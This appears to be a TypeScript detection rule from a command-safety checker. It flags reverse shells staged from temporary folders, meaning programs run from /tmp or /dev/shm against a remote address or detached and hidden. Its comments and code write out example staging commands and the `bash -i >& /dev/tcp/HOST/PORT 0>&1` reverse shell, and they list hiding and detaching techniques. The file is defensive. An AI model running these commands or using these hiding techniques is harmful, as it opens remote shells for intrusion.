// A program dropped in a temporary folder and run against a remote address: `go run /tmp/rs.go
// 203.0.113.10:4444`, `java -jar /tmp/r.jar 10.0.0.1 4444`, `/dev/shm/.x 198.51.100.7 443`,
// `python3 /tmp/.s.py &`. What the program does is not on the line, but the shape is how a
// reverse shell is staged: the payload written where nothing keeps it (an earlier call wrote
// it), then started with the address to call back, or detached from the session so it outlives
// the call (nohup, setsid, disown, `screen -dm`, `tmux new -d`, `systemd-run`, `launchctl
// submit`, a lone `&`) while it hides: a dot name anywhere in its path (`/tmp/.cache/.s/a.py`),
// shared memory (`/dev/shm`), or (under a detacher) every byte of its output thrown away. Read as the reverse shell it stages (`bash -i >& /dev/tcp/HOST/PORT 0>&1`), which
// the reverse-shell rules deny. A project's own program, a temp script run in the foreground, or
// one given a loopback address is ordinary work and is not read.
import { basename } from '../shell-wrappers.js';
import type { Effect } from './types.js';
import type { LineView } from './line-view.js';

export const STAGED_HINT = /(?:^|[\s'"=])\/(?:tmp|var\/tmp|dev\/shm|private\/tmp|Users\/Shared)\//;

/** Programs that run the file given as their first operand (their script, jar or source). */
const RUNNERS = new Set([
  'python',
  'python2',
  'python3',
  'node',
  'perl',
  'ruby',
  'php',
  'bash',
  'sh',
  'dash',
  'zsh',
  'lua',
  'java',
  'go',
  'dotnet',
  'deno',
  'bun',
  'tsx',
  'ts-node',
  'pwsh',
]);
/** Wrappers that start the command after them (and, for the first three, detach it). */
const DETACHERS = new Set(['nohup', 'setsid', 'disown', 'daemonize']);
const WRAPPERS = new Set(['timeout', 'nice', 'ionice', 'env', 'exec', 'stdbuf', 'chrt', 'taskset']);
// macOS: /private/tmp is /tmp, /Users/Shared is writable by every account
const TEMP = /^(?:\/tmp|\/var\/tmp|\/dev\/shm|\/private\/tmp|\/Users\/Shared)\//;
const IPV4 = String.raw`(\d{1,3}(?:\.\d{1,3}){3})`;
const LOOPBACK = /^(?:127\.|0\.0\.0\.0$)/;
/** The walk hands over the command a wrapper runs without the wrapper: the line still names it. */
const DETACHED =
  /(?:^|[\s;&|(])(?:nohup|setsid|disown|daemonize|systemd-run|launchctl\s+submit|screen\s+(?:-\w+\s+)*-\w*d|tmux\s+new(?:-session)?\b[^;&|]*\s-\w*d)\b/;
/** A command put in the background: a lone `&`, not `&&`, `>&` or `&>`. */
const LONE_AMPERSAND = /(?<![&>|])&(?![&>])/;

/** The remote address among the operands: `IP:PORT`, or `IP` followed by `PORT`. */
function remoteEndpoint(ops: string[]): { host: string; port: string } | undefined {
  for (let i = 0; i < ops.length; i++) {
    const w = ops[i] ?? '';
    const joined = new RegExp(String.raw`^(?:\w+://)?${IPV4}:(\d{1,5})\b`).exec(w);
    const alone = new RegExp(String.raw`^${IPV4}$`).exec(w);
    const host = joined?.[1] ?? alone?.[1];
    const port = joined?.[2] ?? (alone && /^\d{1,5}$/.test(ops[i + 1] ?? '') ? ops[i + 1] : undefined);
    if (host && port && !LOOPBACK.test(host)) return { host, port };
  }
  return undefined;
}

/** The temp file the command runs (itself, or as a runner's script, jar or source), and its operands. */
function tempProgram(argv: string[]): { file: string; ops: string[]; detached: boolean } | undefined {
  let i = 0;
  let detached = false;
  const first = basename(argv[0] ?? '').toLowerCase();
  if (first === 'launchctl' && argv[1] === 'submit') {
    i = argv.indexOf('--') + 1;
    if (i === 0) return undefined;
    detached = true;
  } else if (first === 'screen' && /^-\w*d/.test(argv[1] ?? '')) {
    // screen -dmS NAME PROG: -S takes the session's name
    i = 1;
    while (i < argv.length && (argv[i] ?? '').startsWith('-')) i += /S$/.test(argv[i] ?? '') ? 2 : 1;
    detached = true;
  }
  while (i < argv.length) {
    const n = basename(argv[i] ?? '').toLowerCase();
    if (DETACHERS.has(n)) detached = true;
    else if (!WRAPPERS.has(n)) break;
    i++;
    // a wrapper's options and values (timeout 30, nice -n 5, env A=b)
    while (i < argv.length && /^(?:-|\d|\w+=)/.test(argv[i] ?? '')) i++;
  }
  const prog = argv[i] ?? '';
  if (TEMP.test(prog)) return { file: prog, ops: argv.slice(i + 1), detached };
  const name = basename(prog)
    .toLowerCase()
    .replace(/\d+(?:\.\d+)*$/, '');
  if (!RUNNERS.has(name) && !RUNNERS.has(basename(prog).toLowerCase())) return undefined;
  const rest = argv.slice(i + 1);
  // go run FILE, dotnet run/exec FILE, java -jar FILE: the first operand after the verb or flag
  let j = 0;
  if ((name === 'go' || name === 'dotnet') && (rest[0] === 'run' || rest[0] === 'exec')) j = 1;
  while (j < rest.length && (rest[j] ?? '').startsWith('-')) j++;
  const file = rest[j] ?? '';
  return TEMP.test(file) ? { file, ops: rest.slice(j + 1), detached } : undefined;
}

/** The reverse shells a line stages from temporary folders (see the top of this file). */
export function stagedShellEffects(l: LineView, out: Effect[]): void {
  for (const c of l.cmds) {
    const t = tempProgram(c.argv);
    if (!t) continue;
    const at = remoteEndpoint(t.ops);
    // hidden: a dot name anywhere below the temporary folder, or shared memory
    const hidden = t.file.split('/').some((p) => p.startsWith('.')) || t.file.startsWith('/dev/shm/');
    const discarded = c.redirs.some((r) => r.target === '/dev/null');
    // detached: nohup/setsid/screen/tmux/systemd-run, or put in the background
    const detacher = t.detached || DETACHED.test(l.text);
    const background = detacher || LONE_AMPERSAND.test(l.text);
    // a scratch script put in the background with its output dropped (`node /tmp/x.js > /dev/null &`)
    // is everyday work; dropped output counts when a detacher makes it outlive the session
    if (!at && !((background && hidden) || (detacher && discarded))) continue;
    // the address is in the payload: a placeholder host the reverse-shell rules read as remote
    const host = at?.host ?? 'callback.invalid';
    out.push({
      tool: 'exec',
      command: `bash -i >& /dev/tcp/${host}/${at?.port ?? '4444'} 0>&1`,
      via: at
        ? `runs ${t.file}, dropped in a temporary folder, against ${at.host}:${at.port}`
        : `starts ${t.file} from a temporary folder, detached from the session and hidden`,
    });
  }
}
